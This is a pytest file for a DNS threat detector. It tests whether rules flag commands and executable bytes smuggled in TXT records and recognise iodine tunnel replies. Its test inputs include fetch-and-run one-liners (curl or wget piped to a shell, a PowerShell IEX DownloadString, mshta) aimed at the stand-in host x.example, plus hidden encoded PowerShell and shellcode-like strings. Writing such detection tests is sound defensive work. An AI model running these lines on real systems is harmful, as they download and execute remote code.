"""Answers are built by dnslib, or are a tool's own bytes, so that the rules read what our code did not write."""

import struct
from pathlib import Path

import dnslib
import pytest

from dnsguard.detect.context import Context
from dnsguard.detect.response import suspicious_domain as det
from dnsguard.detect.response_view import Response
from dnsguard.intel.compile import compile_lists
from dnsguard.intel.snapshot import Snapshot
from dnsguard.intel.starter import starter_lists
from dnsguard.model import Finding, Severity
from dnsguard.wire.answer import Answer
from dnsguard.wire.query import Query


@pytest.fixture(scope="module")
def starter(tmp_path_factory: pytest.TempPathFactory) -> Snapshot:
    folder: Path = tmp_path_factory.mktemp("starter")
    own = [config for config in starter_lists() if config.category == "suspicious_domain"]
    return Snapshot.open(compile_lists(own, folder, folder / "compiled", now=0.0).path)


def judged(intel: Snapshot, query: Query, message: bytes) -> Finding | None:
    return det.inspect(Response(query, Answer(message)), Context(det.Config(), intel))


def text(*strings: bytes, name: str = "x.example", kind: int = 16) -> tuple[Query, bytes]:
    """An answer of one TXT record; its strings may hold what a zone file can't."""
    query = Query.of(name, f"TYPE{kind}")
    data = b"".join(bytes([len(string)]) + string for string in strings)
    record = b"\xc0\x0c" + struct.pack(">HHIH", kind, 1, 60, len(data)) + data
    return query, query.packet[:2] + bytes.fromhex("81800001000100000000") + query.question + record


@pytest.mark.parametrize(
    ("sid", "strings"),
    [
        (9000070, [b"powershell -nop -w hidden -e SQBFAFgA"]),
        (9000070, [b'v=x "PowerShell.exe" -c "iex(1)"']),
        (9000071, [b"[Convert]::FromBase64String($x)"]),
        (9000072, [b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"]),
        (9000073, [b"$a = 'x'; invoke-expression $a"]),
        (9000074, [b"run: cmd.exe /c whoami"]),
        (9000074, [b" cmd /k dir"]),
        (9000075, [b"mshta http://x.example/a.hta"]),
        (9000076, [b"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAA"]),
        (9000077, [b"4D5A90000300000004000000FFFF0000"]),
        (9000078, [b"abWYIIIIIIIIIIIIIIII7QZjAXP0A0AkAAQ2AB2BB0BBABXP8ABuJIzz"]),
        (9000079, [b"curl -s http://x.example/i.sh | bash"]),
        (9000079, [b"wget -qO- http://x.example/i.sh|sh"]),
    ],
)
def test_commands_and_programs_in_text(starter: Snapshot, sid: int, strings: list[bytes]) -> None:
    finding = judged(starter, *text(*strings))
    assert finding is not None
    assert sid in {finding.evidence["sid"], *finding.evidence.get("also", [])}
    assert finding.severity is Severity.HIGH


@pytest.mark.parametrize(
    "strings",
    [
        [b"v=spf1 include:_spf.google.com ~all"],
        [b"v=DKIM1; k=rsa; p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDcmd+/curl -hashell|sh"],
        [b"google-site-verification=cmd-c-powershell_9x"],
        [b"powershell.example.com is a nice site"],
        [b"MS=ms12345678", b"docusign=aaaa-bbbb"],
        [b"H4sIAAAAAAAA"],
        [b""],
    ],
)
def test_ordinary_text(starter: Snapshot, strings: list[bytes]) -> None:
    assert judged(starter, *text(*strings)) is None


def test_a_command_in_another_type_is_no_text(starter: Snapshot) -> None:
    assert judged(starter, *text(b"powershell -nop -w hidden", kind=99)) is None


# the servers' own bytes, from recordings (iodine 0.7 NULL, iodine 0.7 CNAME); the rest made by its rules
IODINE = {
    9000013: """28d884000001000100000000 0b76616161616b61786a3275027431076269696c6c706903636f6d00000a0001
        c00c000a0001000000000009 5641434b4e71726600""",
    9000015: """0d4484000001000100000000 0b76616161616b61736b6f71037777770667677936363602746b0000050001
        c00c00050001000000000015 10686b7a61756773307474356b7661616102646800""",
}


@pytest.mark.parametrize(("sid", "wire"), IODINE.items())
def test_iodine_s_server_accepts(starter: Snapshot, sid: int, wire: str) -> None:
    message = bytes.fromhex(wire)
    answer = Answer(message)
    query = Query(
        message[:2] + bytes.fromhex("01000001000000000000") + message[12 : answer.question_end], bytes(4), 0.0
    )
    finding = judged(starter, query, message)
    assert finding is not None
    assert finding.evidence["sid"] == sid


@pytest.mark.parametrize(
    ("sid", "kind", "data"),
    [(9000014, 10, b"VNAK\0\0\5\2x"), (9000018, 65399, b"VACK\1\2\3\4\0"), (9000017, 16, b"\x10tkzaugs0tt5kvaaa")],
)
def test_iodine_s_server_in_other_types(starter: Snapshot, sid: int, kind: int, data: bytes) -> None:
    query = Query.of("vaaaakaxj2u.t.example", f"TYPE{kind}")
    record = b"\xc0\x0c" + struct.pack(">HHIH", kind, 1, 0, len(data)) + data
    finding = judged(starter, query, query.packet[:2] + bytes.fromhex("84000001000100000000") + query.question + record)
    assert finding is not None
    assert finding.evidence["sid"] == sid


def test_ordinary_answers(starter: Snapshot) -> None:
    query = Query.of("www.shop.example")
    reply = dnslib.DNSRecord.parse(query.packet).reply()
    for line in (
        "www.shop.example. 60 IN CNAME vack.shop.example.",
        "vack.shop.example. 60 IN A 192.0.2.1",
        "vack.shop.example. 60 IN MX 10 hkz.shop.example.",
    ):
        reply.add_answer(*dnslib.RR.fromZone(line))
    assert judged(starter, query, bytes(reply.pack())) is None
